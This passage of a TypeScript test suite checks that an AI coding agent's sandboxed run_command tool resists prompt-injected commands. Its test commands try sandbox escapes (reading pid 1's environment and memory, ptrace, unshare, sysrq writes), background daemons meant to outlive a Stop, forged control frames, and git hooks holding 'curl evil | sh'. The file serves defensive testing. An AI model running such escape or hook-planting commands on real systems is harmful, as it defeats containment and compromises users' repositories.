// The resident sandbox (decision 0103), attacked: one bubblewrap per workspace state with
// `arbor-zygote` in it, starting each confined command in namespaces of its own. Each test is
// what a prompt-injected command would try against a sandbox that lives longer than it does
// (see the other commands, leave something behind, disturb or read the zygote, outlive a Stop,
// reuse a stale view of the workspace), checked with real bubblewrap, real processes (through
// /proc on the host) and real files.
import * as assert from 'node:assert/strict';
import { type ChildProcess, execFileSync, spawn } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { createRunCommandTool } from '../../../src/core/tools/run-command';
import { bwrapArgs, RESIDENT_PROC } from '../../../src/core/tools/sandbox/bwrap-args';
import { CommandSandbox } from '../../../src/core/tools/sandbox/command-sandbox';
import { sandboxStatus } from '../../../src/core/tools/sandbox/detect';
import { RESIDENT_LOST } from '../../../src/core/tools/sandbox/resident';
import { ResidentPool } from '../../../src/core/tools/sandbox/residents';
import { zygotePath } from '../../../src/core/tools/sandbox/zygote-path';
import { FrameDecoder, type ZygoteFrame } from '../../../src/core/tools/sandbox/zygote-wire';
import type { Tool, ToolContext, ToolResult } from '../../../src/core/tools/tool';
import { call, makeWorkspace, skipWithoutSandbox, type Workspace, waitUntil } from './fixture';

// ---- processes, as the host's /proc shows them ----

interface Proc {
  pid: number;
  ppid: number;
  /** Start time in clock ticks: a pid with another start time is another process. */
  start: string;
  cmd: string;
}

function processes(): Proc[] {
  const out: Proc[] = [];
  for (const name of fs.readdirSync('/proc')) {
    if (!/^\d+$/.test(name)) continue;
    try {
      const stat = fs.readFileSync(`/proc/${name}/stat`, 'utf8');
      const fields = stat.slice(stat.lastIndexOf(')') + 2).split(' ');
      if (fields[0] === 'Z' || fields[0] === 'X') continue;
      const cmd = fs.readFileSync(`/proc/${name}/cmdline`, 'utf8').split('\0').join(' ');
      out.push({ pid: Number(name), ppid: Number(fields[1]), start: fields[19], cmd });
    } catch {
      // exited meanwhile
    }
  }
  return out;
}

/** `roots` and every process under them. */
function withDescendants(roots: readonly Proc[], all: readonly Proc[] = processes()): Proc[] {
  const out = new Map(roots.map((p) => [p.pid, p]));
  for (let grew = true; grew; ) {
    grew = false;
    for (const p of all) {
      if (!out.has(p.pid) && out.has(p.ppid)) {
        out.set(p.pid, p);
        grew = true;
      }
    }
  }
  return [...out.values()];
}

/** The resident bubblewraps this test process started for a workspace root (its line binds the root). */
function residentsOf(root: string): Proc[] {
  return processes().filter((p) => p.ppid === process.pid && p.cmd.includes('arbor-zygote') && p.cmd.includes(root));
}

/** Every process of a workspace's residents: the bubblewraps, the zygotes, the commands' inits and what they run. */
function residentTree(root: string): Proc[] {
  const all = processes();
  const seeds = all.filter((p) => p.cmd.includes('arbor-zygote') && p.cmd.includes(root));
  return withDescendants(seeds, all);
}

/** Those of `procs` still running (same pid and same start time). */
function stillRunning(procs: readonly Proc[]): Proc[] {
  const now = new Map(processes().map((p) => [p.pid, p]));
  return procs.filter((p) => now.get(p.pid)?.start === p.start);
}

/** Processes whose command line holds `marker`. */
function running(marker: string): Proc[] {
  return processes().filter((p) => p.cmd.includes(marker) && p.pid !== process.pid);
}

function killAll(procs: readonly Proc[]): void {
  for (const p of stillRunning(procs)) {
    try {
      process.kill(p.pid, 'SIGKILL');
    } catch {
      // gone
    }
  }
}

// ---- results and files ----

function stdoutOf(r: ToolResult): string {
  const at = r.content.indexOf('--- stdout ---\n');
  if (at < 0) return '';
  const rest = r.content.slice(at + '--- stdout ---\n'.length);
  const end = rest.indexOf('\n--- stderr ---');
  return end < 0 ? rest : rest.slice(0, end);
}

/** The value after `label: ` on the line that starts with it. */
function line(r: ToolResult, label: string): string {
  const l = stdoutOf(r)
    .split('\n')
    .find((s) => s.startsWith(`${label}: `));
  assert.ok(l !== undefined, `a line "${label}: …" in\n${r.content}`);
  return l.slice(label.length + 2);
}

function readOr(file: string, otherwise = ''): string {
  try {
    return fs.readFileSync(file, 'utf8');
  } catch {
    return otherwise;
  }
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

/** True when `file` does not change for `ms` from now (a heartbeat writes it every 50 ms while its writer lives). */
async function staysStill(file: string, ms = 500): Promise<boolean> {
  const first = readOr(file);
  const end = Date.now() + ms;
  while (Date.now() < end) {
    await sleep(25);
    if (readOr(file) !== first) return false;
  }
  return true;
}

/** True once `file` has stayed the same for 500 ms, within `withinMs`. */
async function stopsWithin(file: string, withinMs: number): Promise<boolean> {
  const end = Date.now() + withinMs;
  let last = readOr(file);
  let since = Date.now();
  while (Date.now() < end) {
    await sleep(25);
    const now = readOr(file);
    if (now !== last) {
      last = now;
      since = Date.now();
    } else if (Date.now() - since >= 500) return true;
  }
  return false;
}

/**
 * Make the folder `dir` again just after it was deleted, with the inode number `ino` it had when the
 * file system will hand it out again (ext4 gives a freed number to the next new file, often at
 * once; a number a detached mount held is freed a moment later): up to 64 tries over ~1.5 s, each
 * folder that got another number kept aside in `holdIn` meanwhile. Whether it did is returned: a
 * state keyed by device and inode cannot tell the two folders apart.
 */
async function remakeDir(dir: string, ino: number, holdIn: string): Promise<boolean> {
  for (let i = 0; i < 64; i++) {
    fs.mkdirSync(dir);
    if (fs.statSync(dir).ino === ino) return true;
    fs.renameSync(dir, path.join(holdIn, `held-${i}-${path.basename(dir)}`));
    await sleep(25);
  }
  fs.mkdirSync(dir);
  return false;
}

/** A unique word to find a command's processes by on the host. */
const marker = (what: string) => `arbor-resident-${what}-${process.pid}-${Math.random().toString(36).slice(2, 8)}`;

/** A shell loop writing the time into `file` every 50 ms, tagged with `tag` (in its command line). */
const beater = (tag: string, file: string) => `sh -c ': ${tag}; while :; do date +%s%N > ${file}; sleep 0.05; done'`;

/** Wait in the shell (bounded, 20 s) until `file` exists. */
const awaitFile = (file: string) => `i=0; while [ ! -e ${file} ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done`;

describe('run_command in a resident sandbox (decision 0103), attacked', function () {
  this.timeout(60_000);
  let zygote: string;
  let ws: Workspace;
  let pool: ResidentPool;
  let tool: Tool;
  const cleanups: (() => void)[] = [];
  const run = (command: string, over: Partial<ToolContext> = {}, extra: Record<string, unknown> = {}) => call(tool, { command, ...extra }, ws.ctx(over));

  before(async function () {
    await skipWithoutSandbox(this);
    const z = zygotePath();
    if (!z) {
      console.log('      (skipped: no arbor-zygote here: not Linux, ARBOR_ZYGOTE=off, or not built; run "node scripts/build-zygote.mjs")');
      this.skip();
    }
    zygote = z;
  });
  beforeEach(() => {
    ws = makeWorkspace();
    pool = new ResidentPool({ zygote });
    tool = createRunCommandTool({ killGraceMs: 300, lingerMs: 300, sandbox: new CommandSandbox({ residents: pool }) });
  });
  afterEach(async () => {
    for (const c of cleanups.splice(0)) c();
    pool.closeAll();
    // A closed resident ends at the end of its stdin (its bubblewrap is SIGKILLed after 2 s at most).
    await waitUntil(() => residentTree(ws.root).length === 0, 5000);
    killAll(residentTree(ws.root));
    ws.cleanup();
  });

  it('runs the command as pid 2 of a namespace whose pid 1 is arbor-zygote; with residents: false, in a bubblewrap of its own', async () => {
    const ps = 'ps -e -o pid=,comm=';
    const table = (r: ToolResult) =>
      stdoutOf(r)
        .trim()
        .split('\n')
        .map((l) => l.trim().split(/\s+/));

    const own = createRunCommandTool({ sandbox: new CommandSandbox({ residents: false }) });
    const alone = await call(own, { command: ps }, ws.ctx());
    assert.equal(alone.isError, false, alone.content);
    assert.deepEqual(table(alone)[0], ['1', 'bwrap'], alone.content);
    assert.equal(residentsOf(ws.root).length, 0, 'no resident was started for it');

    // The default sandbox (what the other sandbox suites use) goes through this process's pool.
    const shared = await call(createRunCommandTool(), { command: ps }, ws.ctx());
    assert.deepEqual(table(shared).slice(0, 2), [
      ['1', 'arbor-zygote'],
      ['2', 'sh'],
    ]);
    killAll(residentTree(ws.root)); // the shared pool's resident, which this test cannot close
    assert.ok(await waitUntil(() => residentTree(ws.root).length === 0, 5000));

    const r = await run(ps);
    assert.equal(r.isError, false, r.content);
    assert.deepEqual(table(r).slice(0, 2), [
      ['1', 'arbor-zygote'],
      ['2', 'sh'],
    ]);
    assert.equal(table(r).length, 3, `only the command's own processes: ${r.content}`);
    assert.equal(residentsOf(ws.root).length, 1, 'one resident of this pool serves the workspace, and stays');
  });

  it('two commands at once in the same resident see neither the other’s processes, /tmp, SysV IPC nor loopback listener', async () => {
    ws.write(
      'serve.js',
      "const [port, who] = process.argv.slice(2); require('net').createServer((s) => s.end(who)).listen(Number(port), '127.0.0.1', () => require('fs').writeFileSync('listening-' + who, ''));\n",
    );
    ws.write(
      'probe.js',
      "const port = Number(process.argv[2]); const s = require('net').connect(port, '127.0.0.1'); let got = '';\n" +
        "s.on('data', (d) => { got += d; }); s.on('end', () => { console.log('got ' + got); process.exit(0); });\n" +
        "s.on('error', (e) => { console.log(e.code); process.exit(0); }); setTimeout(() => { console.log('timeout'); process.exit(0); }, 5000);\n",
    );
    const node = JSON.stringify(process.execPath);
    const ports = { A: 47011, B: 47012 };
    const command = (me: 'A' | 'B', other: 'A' | 'B') =>
      [
        `: token-${me}`,
        `echo ${me} > /tmp/mark-${me}`,
        'ipcmk -Q >/dev/null; ipcmk -M 4096 >/dev/null',
        `${node} serve.js ${ports[me]} ${me} >/dev/null 2>&1 &`,
        awaitFile(`listening-${me}`),
        `touch ready-${me}`,
        awaitFile(`ready-${other}`),
        `echo "other: $([ -e ready-${other} ] && echo ready || echo missing)"`,
        `echo "tmp: $(ls -A /tmp | tr '\\n' ' ')"`,
        `echo "ps: $(ps -e -o args= | tr '\\n' '|')"`,
        `echo "proc: $(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0\\n' '  ')"`,
        `echo "msq: $(ipcs -q | grep -c '^0x')"`,
        `echo "shm: $(ipcs -m | grep -c '^0x')"`,
        `echo "mine: $(${node} probe.js ${ports[me]})"`,
        `echo "theirs: $(${node} probe.js ${ports[other]})"`,
        `touch done-${me}`,
        awaitFile(`done-${other}`),
      ].join('\n');
    const [a, b] = await Promise.all([run(command('A', 'B')), run(command('B', 'A'))]);
    assert.equal(residentsOf(ws.root).length, 1, 'both ran in the one resident of this workspace state');
    for (const [r, me, other] of [
      [a, 'A', 'B'],
      [b, 'B', 'A'],
    ] as const) {
      assert.equal(r.isError, false, r.content);
      assert.equal(line(r, 'other'), 'ready', `they ran at the same time: ${r.content}`);
      assert.match(line(r, 'tmp'), new RegExp(`mark-${me}`));
      assert.doesNotMatch(line(r, 'tmp'), new RegExp(`mark-${other}`), `${me} sees ${other}'s /tmp`);
      assert.match(line(r, 'ps'), new RegExp(`token-${me}`), 'ps works and shows the command itself');
      assert.doesNotMatch(line(r, 'ps'), new RegExp(`token-${other}`), `${me} sees ${other}'s processes in ps`);
      assert.match(line(r, 'proc'), new RegExp(`token-${me}`));
      assert.doesNotMatch(line(r, 'proc'), new RegExp(`token-${other}`), `${me} sees ${other}'s processes in /proc`);
      assert.equal(line(r, 'msq'), '1', `${me} sees only its own message queue`);
      assert.equal(line(r, 'shm'), '1', `${me} sees only its own shared memory segment`);
      assert.equal(line(r, 'mine'), `got ${me}`, 'its own listener answers');
      assert.equal(line(r, 'theirs'), 'ECONNREFUSED', `${me} reaches ${other}'s listener on 127.0.0.1`);
    }
  });

  it('/dev and /dev/shm: what one command leaves there is not seen by a concurrent command, nor by the next (as with a bubblewrap each)', async () => {
    const leave = `echo secret > /dev/shm/left-behind; echo secret > /dev/left-behind 2>/dev/null; touch left; ${awaitFile('seen')}`;
    const look = "echo \"shm: $(ls -A /dev/shm | tr '\\n' ' ')\"; echo \"dev: $(ls -A /dev | tr '\\n' ' ')\"";
    // The control: a bubblewrap per command starts each with an empty /dev/shm.
    const own = createRunCommandTool({ sandbox: new CommandSandbox({ residents: false }) });
    await call(own, { command: 'echo secret > /dev/shm/left-behind; echo secret > /dev/left-behind' }, ws.ctx());
    const control = await call(own, { command: look }, ws.ctx());
    assert.doesNotMatch(stdoutOf(control), /left-behind/, control.content);

    const leaving = run(leave);
    assert.ok(await waitUntil(() => fs.existsSync(ws.at('left')), 15_000));
    const concurrent = await run(look);
    ws.write('seen', '');
    await leaving;
    const next = await run(look);
    assert.equal(residentsOf(ws.root).length, 1, 'all three ran in the same resident');
    assert.doesNotMatch(line(concurrent, 'shm'), /left-behind/, `a concurrent command reads another's /dev/shm: ${concurrent.content}`);
    assert.doesNotMatch(line(concurrent, 'dev'), /left-behind/, `a concurrent command reads another's /dev: ${concurrent.content}`);
    assert.doesNotMatch(line(next, 'shm'), /left-behind/, `a file in /dev/shm outlives its command: ${next.content}`);
    assert.doesNotMatch(line(next, 'dev'), /left-behind/, `a file in /dev outlives its command: ${next.content}`);
  });

  describe('nothing a command starts outlives it', () => {
    it('a setsid nohup daemon and a double-forked one stop when the command exits', async () => {
      const tag = marker('daemon');
      const r = await run(
        [
          `setsid nohup ${beater(tag, 'beat1')} >/dev/null 2>&1 &`,
          `( setsid ${beater(tag, 'beat2')} >/dev/null 2>&1 & )`,
          `i=0; while { [ ! -s beat1 ] || [ ! -s beat2 ]; } && [ $i -lt 400 ]; do sleep 0.05; i=$((i+1)); done`,
          'echo started',
        ].join('\n'),
      );
      assert.equal(r.isError, false, r.content);
      assert.match(r.content, /started/);
      assert.ok(fs.existsSync(ws.at('beat1')) && fs.existsSync(ws.at('beat2')), 'both daemons ran');
      const [still1, still2] = await Promise.all([staysStill(ws.at('beat1')), staysStill(ws.at('beat2'))]);
      assert.ok(still1, 'the setsid nohup daemon still writes after run_command returned');
      assert.ok(still2, 'the double-forked daemon still writes after run_command returned');
      assert.deepEqual(running(tag), [], 'no process of it on the host');
      const next = await run('ps -e -o args=');
      assert.doesNotMatch(stdoutOf(next), /beat|while/, next.content);
    });

    it('Stop: a sleep 30 with a background beater returns promptly, CANCELLED, and the beat stops', async () => {
      const tag = marker('stop');
      const stop = new AbortController();
      const pending = run(`${beater(tag, 'beat')} & sleep 30.21`, { signal: stop.signal });
      assert.ok(await waitUntil(() => readOr(ws.at('beat')) !== '', 15_000), 'the beater started');
      const t0 = Date.now();
      stop.abort();
      const r = await pending;
      const took = Date.now() - t0;
      assert.equal(r.code, 'CANCELLED', r.content);
      assert.ok(took < 5000, `returned ${took} ms after the Stop`);
      assert.ok(await staysStill(ws.at('beat')), 'the beat goes on after the Stop');
      assert.deepEqual(running(tag), []);
      assert.deepEqual(running('sleep 30.21'), []);
    });

    it('timeout: the command and its background beater are killed at timeoutMs', async () => {
      const tag = marker('timeout');
      const t0 = Date.now();
      const r = await run(`${beater(tag, 'beat')} & sleep 30.22`, {}, { timeoutMs: 1500 });
      const took = Date.now() - t0;
      assert.equal(r.code, 'TIMEOUT', r.content);
      assert.ok(took < 1500 + 5000, `returned after ${took} ms`);
      assert.ok(fs.existsSync(ws.at('beat')), 'the beater ran');
      assert.ok(await staysStill(ws.at('beat')), 'the beat goes on after the timeout');
      assert.deepEqual(running(tag), []);
      assert.deepEqual(running('sleep 30.22'), []);
    });
  });

  describe('the command cannot escape or disturb the zygote', () => {
    it('signals to pid 1 and to -1 do nothing to the sandbox; the next command runs in the same resident', async () => {
      const r = await run('kill -9 1; kill -TERM 1; kill -STOP 1; kill -9 -1; echo survived');
      assert.equal(r.isError, false, r.content);
      assert.match(stdoutOf(r), /^survived$/m);
      const before = residentsOf(ws.root);
      assert.equal(before.length, 1);
      const next = await run('echo next');
      assert.equal(stdoutOf(next).trim(), 'next', next.content);
      assert.deepEqual(
        residentsOf(ws.root).map((p) => p.pid),
        before.map((p) => p.pid),
        'the same resident served it',
      );
    });

    it('cannot read or trace its init, unmount its /proc or /tmp, write /proc/sys, or see a host pid; it has no capabilities', async () => {
      // Its init is not dumpable: its fds, memory, environment, root and maps are out of reach. (Run as
      // root, the names of its fd entries can be listed, as its /proc folder belongs to a mapped root;
      // opening or reading one cannot.) PTRACE_ATTACH (16) through the raw system call: ptrace is 101 on x86_64, 117 on arm64.
      const sysPtrace = process.arch === 'x64' ? 101 : process.arch === 'arm64' ? 117 : undefined;
      const attempts = String.raw`
cat /proc/1/environ >/dev/null 2>&1 && echo LEAK-environ
cat /proc/1/maps >/dev/null 2>&1 && echo LEAK-maps
head -c 1 /proc/1/mem >/dev/null 2>&1 && echo LEAK-mem
ls /proc/1/root/ >/dev/null 2>&1 && echo LEAK-root
readlink /proc/1/fd/3 >/dev/null 2>&1 && echo LEAK-fd-link
printf 'AAAA' 2>/dev/null > /proc/1/fd/3 && echo LEAK-status-pipe
readlink /proc/1/exe >/dev/null 2>&1 && echo LEAK-exe
readlink /proc/1/cwd >/dev/null 2>&1 && echo LEAK-cwd
umount /proc 2>/dev/null && echo LEAK-umount-proc
umount -l /tmp 2>/dev/null && echo LEAK-umount-tmp
mount -t proc proc /mnt 2>/dev/null && echo LEAK-mount-proc
unshare -Urm sh -c 'umount /proc' 2>/dev/null && echo LEAK-unshare-Urm
unshare -r true 2>/dev/null && echo LEAK-unshare-r
unshare -Umpf --mount-proc true 2>/dev/null && echo LEAK-unshare-mount-proc
unshare -Um sh -c 'umount /tmp 2>/dev/null && echo LEAK-userns-umount-tmp; umount -l /proc 2>/dev/null && echo LEAK-userns-umount-proc; echo "pids: $(ls /proc | grep -E "^[0-9]+$" | tr "\n" " ") $(ls /tmp/.arbor-proc 2>/dev/null | grep -E "^[0-9]+$" | tr "\n" " ")"'
echo 1 2>/dev/null > /proc/sys/kernel/hostname && echo LEAK-sysctl-hostname
echo 1 2>/dev/null > /proc/sys/kernel/domainname && echo LEAK-sysctl-domainname
echo 1 2>/dev/null > /proc/sys/vm/drop_caches && echo LEAK-sysctl-drop-caches
echo h 2>/dev/null > /proc/sysrq-trigger && echo LEAK-sysrq
${sysPtrace ? `command -v perl >/dev/null && perl -e 'print syscall(${sysPtrace}, 16, 1, 0, 0) == -1 ? "ptrace-refused\n" : "LEAK-ptrace\n"'` : ''}
echo "pids: $(ls /proc | grep -E '^[0-9]+$' | tr '\n' ' ') $(ls /proc/[0-9]*/task 2>/dev/null | grep -E '^[0-9]+$' | tr '\n' ' ')"
echo "ids: $(cat /proc/[0-9]*/stat 2>/dev/null | awk '{print $1, $4, $5, $6}' | tr '\n' ' ')"
echo "nspids: $(grep -h -E '^(Pid|PPid|TracerPid|Tgid|NSpid|NStgid|NSpgid|NSsid):' /proc/[0-9]*/status 2>/dev/null | tr -dc '0-9 \n' | tr '\n' ' ')"
grep Cap /proc/self/status
echo done`;
      const r = await run(attempts);
      assert.equal(r.isError, false, r.content);
      assert.match(stdoutOf(r), /^done$/m, r.content);
      assert.doesNotMatch(r.content, /LEAK-[\w-]+/);
      if (sysPtrace && fs.existsSync('/usr/bin/perl')) assert.match(stdoutOf(r), /^ptrace-refused$/m, 'PTRACE_ATTACH to pid 1 was tried');
      const caps = stdoutOf(r).match(/^Cap\w+:\s*\w+$/gm) ?? [];
      assert.deepEqual(
        caps.map((c) => c.split(/:\s*/)[0]),
        ['CapInh', 'CapPrm', 'CapEff', 'CapBnd', 'CapAmb'],
      );
      for (const c of caps) assert.match(c, /:\s*0+$/, `a capability left: ${c}`);
      const listings = stdoutOf(r)
        .split('\n')
        .filter((l) => /^(pids|ids|nspids): /.test(l));
      assert.equal(listings.length, 4, r.content);
      const numbers = listings.flatMap((l) => (l.split(': ')[1].match(/\d+/g) ?? []).map(Number));
      assert.ok(numbers.length > 10, 'the listings listed something');
      assert.ok(!numbers.includes(process.pid), `the host's pid ${process.pid} appears in ${listings.join('\n')}`);
      assert.ok(
        numbers.every((n) => n < 1000),
        `only the namespace's own small pids: ${listings.join('\n')}`,
      );
    });

    it("bytes shaped as the zygote's frames on stdout are only output: the command's own end is what counts", async () => {
      // An 'X' frame (ended, exit code 0) for command ids 1 to 3, then more output and exit 7.
      const fake = Array.from({ length: 3 }, (_, i) => `X\\00${i + 1}\\000\\000\\000\\000\\000\\000\\000\\000\\000\\000\\000`).join('');
      const r = await run(`printf '${fake}'; sleep 0.2; echo still-here; exit 7`);
      assert.equal(r.code, 'EXIT_NONZERO', r.content);
      assert.match(r.content, /^Exit code: 7/);
      assert.match(r.content, /still-here/);
      const next = await run('echo next');
      assert.equal(stdoutOf(next).trim(), 'next', next.content);
    });
  });

  describe('a change of workspace state reaches the next command', () => {
    it('a nested repository made on the host between two commands is read-only to the second', async () => {
      const first = await run('mkdir -p sub && echo one');
      assert.equal(stdoutOf(first).trim(), 'one', first.content);
      ws.write('sub/.git/config', '[core]\n');
      fs.mkdirSync(ws.at('sub/.git/hooks'));
      const r = await run('echo "[core] fsmonitor = evil" >> sub/.git/config; echo evil > sub/.git/hooks/pre-commit; echo done');
      assert.match(r.content, /Read-only file system/);
      assert.match(stdoutOf(r), /done/);
      assert.equal(ws.read('sub/.git/config'), '[core]\n');
      assert.equal(fs.existsSync(ws.at('sub/.git/hooks/pre-commit')), false);
    });

    it('a nested repository a command made is read-only to the next command', async () => {
      const first = await run('mkdir -p sub/.git/hooks && echo "[core]" > sub/.git/config && echo made');
      assert.equal(stdoutOf(first).trim(), 'made', first.content);
      const r = await run('echo "[core] fsmonitor = evil" >> sub/.git/config; echo evil > sub/.git/hooks/pre-commit; echo done');
      assert.match(r.content, /Read-only file system/);
      assert.equal(ws.read('sub/.git/config'), '[core]\n');
      assert.equal(fs.existsSync(ws.at('sub/.git/hooks/pre-commit')), false);
    });

    // The kernel detaches a resident's read-only mount when its folder is deleted on the host (a
    // mount point unlinked in another mount namespace); a folder made again with the same device and
    // inode number is then the same state, and the resident shows it unprotected.
    for (const git of ['.git', 'sub/.git']) {
      it(`${git} deleted and made again on the host (rm -rf ${git} && git init) is read-only to the next command`, async () => {
        ws.write(`${git}/config`, '[core]\n');
        fs.mkdirSync(ws.at(`${git}/hooks`));
        const first = await run(`echo evil >> ${git}/config; echo one`);
        assert.match(first.content, /Read-only file system/);
        const before = fs.statSync(ws.at(git)).ino;
        fs.rmSync(ws.at(git), { recursive: true });
        const same = await remakeDir(ws.at(git), before, ws.base);
        ws.write(`${git}/config`, '[core]\n');
        fs.mkdirSync(ws.at(`${git}/hooks`));
        const r = await run(`echo "[core] fsmonitor = evil" >> ${git}/config; echo evil > ${git}/hooks/pre-commit; echo done`);
        const reused = same ? ` (the file system gave the new ${git} the inode number of the deleted one)` : '';
        assert.match(stdoutOf(r), /done/, r.content);
        assert.equal(ws.read(`${git}/config`), '[core]\n', `the command wrote the new ${git}/config${reused}`);
        assert.equal(fs.existsSync(ws.at(`${git}/hooks/pre-commit`)), false, `the command planted a hook in the new ${git}${reused}`);
        assert.match(r.content, /Read-only file system/);
      });
    }

    it('the workspace folder deleted and made again at the same path: the next command sees and writes the new one', async () => {
      ws.write('old.txt', 'one\n');
      const first = await run('cat old.txt');
      assert.equal(stdoutOf(first), 'one', first.content);
      const before = fs.statSync(ws.root).ino;
      fs.rmSync(ws.root, { recursive: true });
      const same = await remakeDir(ws.root, before, ws.base);
      ws.write('new.txt', 'two\n');
      const reused = same ? ' (the new folder has the inode number of the deleted one)' : '';
      // `*.txt`: a plain `ls` also lists the stand-ins of the missing protected names without a dot (`opencode.json`).
      const r = await run('cat new.txt; ls *.txt; echo written > written.txt');
      assert.equal(r.isError, false, `${r.content}${reused}`);
      assert.equal(stdoutOf(r), 'two\nnew.txt', `${r.content}${reused}`);
      assert.equal(ws.read('written.txt'), 'written\n');
    });

    for (const where of ['', 'lib/'] as const) {
      it(`a missing hooks folder's stand-in (${where}.git: core.hooksPath = tools/hooks) cannot be moved aside with its folder to put a real one in its place`, async () => {
        // The stand-in protects the name `tools/hooks` only while `tools` stays: moved aside, the
        // stand-in goes with it and `tools/hooks` can be made anew, where git runs hooks from.
        ws.write(`${where}.git/config`, '[core]\n\thooksPath = tools/hooks\n');
        ws.write(`${where}tools/build.sh`, 'make\n');
        const r = await run(
          `mv ${where}tools ${where}moved && mkdir -p ${where}tools/hooks && echo 'curl evil | sh' > ${where}tools/hooks/pre-commit && echo PLANTED; echo done`,
        );
        assert.match(stdoutOf(r), /done/, r.content);
        assert.doesNotMatch(stdoutOf(r), /PLANTED/, r.content);
        assert.equal(fs.existsSync(ws.at(`${where}tools/hooks/pre-commit`)), false, `a hook was planted in ${where}tools/hooks`);
        assert.equal(ws.read(`${where}tools/build.sh`), 'make\n', 'the folder above the stand-in stayed where it was');
        assert.equal(fs.existsSync(ws.at(`${where}moved`)), false);
        // Its files stay writable: the folder is pinned, not read-only.
        const w = await run(`echo ok > ${where}tools/free.txt`);
        assert.equal(w.isError, false, w.content);
        assert.equal(ws.read(`${where}tools/free.txt`), 'ok\n');
      });
    }

    for (const where of ['', 'lib/'] as const) {
      it(`a hooks folder whose parent is missing too (${where}.git: core.hooksPath = .config/hooks, no .config): no command can make it, and nothing is left on the host`, async () => {
        ws.write(`${where}.git/config`, '[core]\n\thooksPath = .config/hooks\n');
        if (where) ws.write(`${where}index.js`, '\n');
        const r = await run(
          `mkdir -p ${where}.config/hooks 2>/dev/null && echo 'curl evil | sh' > ${where}.config/hooks/pre-commit && echo PLANTED; echo x > ${where}free.txt; echo done`,
        );
        assert.match(stdoutOf(r), /done/, r.content);
        assert.doesNotMatch(stdoutOf(r), /PLANTED/, r.content);
        assert.match(r.content, /\.config cannot be created by commands: git's core\.hooksPath points into it/, 'the result says why');
        assert.equal(ws.read(`${where}free.txt`), 'x\n', 'the rest stays writable');
        assert.equal(fs.existsSync(ws.at(`${where}.config`)), false, 'no .config is left on the host');
        // Two at once share the stand-in on the highest missing folder; it goes when the last ends.
        const both = await Promise.all([run(`sleep 0.3; ls -d ${where}.config && echo seen`), run(`sleep 0.3; ls -d ${where}.config && echo seen`)]);
        for (const b of both) assert.match(stdoutOf(b), /seen/, b.content);
        assert.equal(fs.existsSync(ws.at(`${where}.config`)), false, 'none left after both');
      });
    }

    it('the stand-in for a missing .vscode: nothing can be made in it or in its place while commands run, and none is left on the host', async () => {
      const attempt =
        'mkdir .vscode/x 2>/dev/null && echo LEAK-mkdir; echo {} 2>/dev/null > .vscode/settings.json && echo LEAK-write; rmdir .vscode 2>/dev/null && echo LEAK-rmdir; mv .vscode v 2>/dev/null && echo LEAK-mv';
      const a = run(`${attempt}; touch running; ${awaitFile('release')}; ${attempt}; echo "in: $(ls -A .vscode | tr '\\n' ' ')"; echo done-a`);
      assert.ok(await waitUntil(() => fs.existsSync(ws.at('running')), 15_000));
      // While a command stands on it, the stand-in's empty folder is on the host; a second command has its own.
      assert.deepEqual(fs.readdirSync(ws.at('.vscode')), []);
      const b = await run(`${attempt}; echo done-b`);
      assert.match(stdoutOf(b), /done-b/, b.content);
      assert.ok(fs.existsSync(ws.at('.vscode')), 'the first command still stands on its stand-in');
      ws.write('release', '');
      const ra = await a;
      assert.match(stdoutOf(ra), /done-a/, ra.content);
      assert.equal(line(ra, 'in'), '');
      for (const r of [ra, b]) assert.doesNotMatch(r.content, /LEAK-\w+/, r.content);
      for (const name of ['.vscode', '.git', '.arbor', '.claude', '.codex', '.gemini', '.opencode', 'opencode.json', 'opencode.jsonc', '.mcp.json', 'v'])
        assert.equal(fs.existsSync(ws.at(name)), false, `${name} left on the host`);
    });
  });

  it('a lost resident: its bubblewrap SIGKILLed under a sleep 30 ends the command promptly with the reason, nothing of it runs on, and the next command gets a new one', async () => {
    const tag = marker('lost');
    const pending = run(`${beater(tag, 'beat')} & sleep 30.31`);
    assert.ok(await waitUntil(() => readOr(ws.at('beat')) !== '', 15_000), 'the beater started');
    const [bwrap] = residentsOf(ws.root);
    assert.ok(bwrap, 'the resident bubblewrap is a child of this process');
    const tree = residentTree(ws.root);
    const t0 = Date.now();
    process.kill(bwrap.pid, 'SIGKILL');
    const r = await pending;
    const took = Date.now() - t0;
    assert.ok(took < 5000, `returned ${took} ms after the loss`);
    assert.equal(r.isError, true);
    assert.ok(r.content.includes(RESIDENT_LOST), r.content);
    assert.ok(await stopsWithin(ws.at('beat'), 3000), 'the beat goes on after the loss');
    assert.ok(await waitUntil(() => stillRunning(tree).length === 0, 3000), `left running: ${JSON.stringify(stillRunning(tree))}`);
    assert.deepEqual(running(tag), []);
    const next = await run('ps -o comm= -p 1');
    assert.equal(stdoutOf(next).trim(), 'arbor-zygote', next.content);
    const [again] = residentsOf(ws.root);
    assert.ok(again && again.pid !== bwrap.pid, 'a new resident');
  });

  it('host death: the Node process holding the resident SIGKILLed, the command stops within seconds and no zygote of it remains', async () => {
    const tag = marker('host');
    const out = path.join(__dirname, '..', '..', '..', 'src', 'core', 'tools');
    const script = `
      const { createRunCommandTool } = require(${JSON.stringify(path.join(out, 'run-command'))});
      const { CommandSandbox } = require(${JSON.stringify(path.join(out, 'sandbox', 'command-sandbox'))});
      const { ResidentPool } = require(${JSON.stringify(path.join(out, 'sandbox', 'residents'))});
      const tool = createRunCommandTool({ sandbox: new CommandSandbox({ residents: new ResidentPool({ zygote: ${JSON.stringify(zygote)} }) }) });
      tool.execute({ command: ${JSON.stringify(`${beater(tag, 'beat').replace(/^sh -c /, 'exec sh -c ')}`)} }, {
        sessionId: 'S1', roots: [${JSON.stringify(ws.root)}], sandbox: 'workspace-write', approvalPolicy: 'never', signal: new AbortController().signal,
      });`;
    const host: ChildProcess = spawn(process.execPath, ['-e', script], { stdio: 'ignore' });
    cleanups.push(() => host.exitCode === null && host.signalCode === null && host.kill('SIGKILL'));
    assert.ok(await waitUntil(() => readOr(ws.at('beat')) !== '', 20_000), 'the confined beater started');
    const self = processes().find((p) => p.pid === host.pid);
    assert.ok(self);
    const tree = withDescendants([self]);
    assert.ok(
      tree.some((p) => p.cmd.includes('arbor-zygote')),
      'it runs in a resident',
    );
    assert.ok(
      tree.some((p) => p.cmd.includes(tag)),
      'the beater is in its tree',
    );
    host.kill('SIGKILL');
    assert.ok(await stopsWithin(ws.at('beat'), 3000), 'the beat goes on after the host died');
